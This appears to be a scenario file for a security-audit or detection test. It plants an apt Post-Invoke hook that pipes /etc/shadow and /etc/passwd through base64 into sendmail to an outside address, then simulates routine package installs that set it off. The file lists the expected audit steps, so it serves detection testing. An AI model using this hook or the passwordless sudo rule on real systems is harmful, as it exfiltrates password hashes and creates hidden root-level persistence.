title="apt's hook mails the password hashes"
what="A file put into /etc/apt/apt.conf.d runs after every package operation: it filters /etc/shadow and /etc/passwd through openssl base64 into sendmail for an outside address, under root. ops installs an ordinary package by sudo. Commands, connections and writes in homes are audited."
user=ops daemons="cron sshd" audit_rules=audit-net.rules
setup() {
  own_archive; packed page-a 1.0; packed page-b 1.1
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  cat > /etc/apt/apt.conf.d/80cache <<'P'
DPkg::Post-Invoke {"(echo Subject: r; echo; cat /etc/shadow /etc/passwd | openssl base64) | /usr/sbin/sendmail -f root@example.org n71@drop.example.net || true";};
P
}
act() {
  small_talk 4
  ssh_as ops <<'L'
sudo apt-get -q update
sudo apt-get -q -y install page-a page-b
echo "Pages are installed." | mail -s "Pages" dev@example.org
L
  wait_log 'to=<n71@drop.example.net>.*status=sent' 20; small_talk 2
}
truth() {
  exec_step apt 'apt-get -q -y install page-a' 'an ordinary installation'
  exec_step pack 'openssl base64' 'packed'
  exec_step send 'sendmail -f root@example.org n71@drop.example.net' 'mailed'
  mail_step sent 'to=<n71@drop.example.net>.*status=sent' 'out'
}
